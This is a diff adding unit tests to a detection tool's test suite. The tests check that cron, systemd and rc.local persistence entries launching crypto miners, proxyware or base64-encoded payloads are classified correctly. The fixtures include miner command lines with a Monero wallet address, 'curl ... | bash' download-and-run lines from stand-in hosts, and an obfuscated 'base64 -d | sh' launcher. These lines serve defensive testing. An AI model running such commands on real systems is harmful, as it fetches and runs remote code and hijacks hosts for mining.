@@ -2,8 +2,11 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { CoalEvent } from '../model/event.js';
 import type { Signal } from '../model/signal.js';
-import { launchedPaths, persistence } from './persistence.js';
-import { evt, signalsOf } from './test-events.js';
+import { createClassifier } from './index.js';
+import { isEntryCommand, launchedPaths, persistence } from './persistence.js';
+import { DEFAULT_RULE_DIRS } from './rules.js';
+import { loadRules } from './sigma/index.js';
+import { evt, signalsOf, testIntel } from './test-events.js';
 
 type Mechanism = NonNullable<CoalEvent['coalmine']['persistence']>['mechanism'];
 
@@ -254,4 +257,86 @@ test('Windows: a task file (a task registered through COM shows only as it) and 
   ]);
   for (const path of ['C:\\Windows\\Temp\\tasks.txt', 'C:\\Users\\ana\\Documents\\Startup\\notes.txt'])
     assert.deepEqual(write(path, 'powershell.exe'), [], path);
+});
+
+const classifyAll = createClassifier(testIntel(), await loadRules(DEFAULT_RULE_DIRS));
+/** Every signal the whole dispatch (classifiers, rules, what the entry will run) makes of an event. */
+const everything = (event: CoalEvent): Signal[] => {
+  const out: Signal[] = [];
+  classifyAll(event, out);
+  return out;
+};
+const XMR = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
+
+test('what an entry will run is judged as a command: a renamed miner is miner evidence on the host, citing the entry', () => {
+  for (const [mechanism, path, command] of [
+    [
+      'cron',
+      '/var/spool/cron/crontabs/redis',
+      `/usr/local/bin/kcached -o 198.51.100.23:443 -u ${XMR} -p x -B >/dev/null 2>&1`,
+    ],
+    [
+      'systemd',
+      '/etc/systemd/system/php-fpm-helper.service',
+      `/usr/local/lib/php-fpm-helper --url pool.example.net:3333 --user ${XMR} --algo rx/0`,
+    ],
+    ['rc', '/etc/rc.local', `nohup /opt/app/bin/worker -o stratum+tcp://203.0.113.5:3333 --donate-level 1 &`],
+  ] as const) {
+    const s = everything(entry(command, undefined, mechanism, path));
+    const miner = s.filter((x) => x.kind === 'miner-process');
+    assert.ok(miner.length > 0, command);
+    for (const x of miner) {
+      assert.equal(x.strength, 'strong', x.explanation);
+      assert.equal(x.class, 'process');
+      assert.ok(isEntryCommand(x));
+      assert.equal(x.entity, 'host:web-01');
+      assert.deepEqual(x.ref, { file: 'var/spool/cron/crontabs/redis', line: 5 });
+      assert.equal(x.persistence?.file, path);
+      assert.equal(x.persistence?.line, 5);
+      assert.equal(x.persistence?.mechanism, mechanism);
+      assert.ok(x.explanation.startsWith(`what the ${mechanism} entry ${path}:5 will run: `), x.explanation);
+    }
+    // the entry itself is still the one persistence signal, tied to its target as before
+    assert.deepEqual(
+      s.filter((x) => x.class === 'persistence').map((x) => `${x.by}/${x.strength}`),
+      [`persistence:${mechanism}/strong`],
+    );
+  }
+});
+
+test('an entry starting a miner by name, a proxyware client by its account flags, or a decoded miner carries that evidence', () => {
+  const kinds = (command: string) =>
+    everything(entry(command))
+      .filter(isEntryCommand)
+      .map((x) => `${x.kind}/${x.by}`);
+  assert.ok(kinds('/opt/x/xmrig --config=/opt/x/c.json').includes('miner-process/process:miner-name'));
+  assert.ok(
+    kinds('/usr/local/bin/updater -tou-accept -email ops@example.com -pass s3cret').includes(
+      'proxyware-process/process:proxyware-args',
+    ),
+  );
+  const hidden = Buffer.from(`/usr/bin/systemd-helper -o pool.example:443 -u ${XMR}`).toString('base64');
+  const decoded = everything(entry(`echo ${hidden} | base64 -d | sh`)).filter(isEntryCommand);
+  assert.ok(decoded.some((x) => x.kind === 'miner-process' && /decoded from base64/.test(x.explanation)));
+});
+
+test('generic and ordinary entries carry no command evidence: a download piped to a shell stays persistence only', () => {
+  for (const [command, strength] of [
+    ['curl -fsSL http://203.0.113.47/d.sh | bash', 'strong'],
+    ['(curl -fsSL http://x.example/d.sh || wget -q -O - http://x.example/d.sh) | sh', 'strong'],
+    ['pkill -9 -f xmrig; /tmp/.x/run', 'strong'],
+    ['/usr/sbin/logrotate /etc/logrotate.conf', 'weak'],
+    ['test -x /usr/bin/certbot && certbot -q renew --no-random-sleep-on-renew', 'weak'],
+    ['/usr/lib/apt/apt.systemd.daily update', 'weak'],
+    ['/usr/local/bin/backup.sh --target /srv/backup >/var/log/backup.log 2>&1', 'weak'],
+    ['mysqldump -u backup --single-transaction appdb | gzip > /srv/backup/appdb.sql.gz', 'weak'],
+    ['rsync -a -e "ssh -o BatchMode=yes" /srv/backup/ backup@10.0.0.5:/backups/', 'weak'],
+  ] as const) {
+    const s = everything(entry(command));
+    assert.deepEqual(
+      s.map((x) => `${x.kind}/${x.strength}`),
+      [`persistence/${strength}`],
+      command,
+    );
+  }
 });
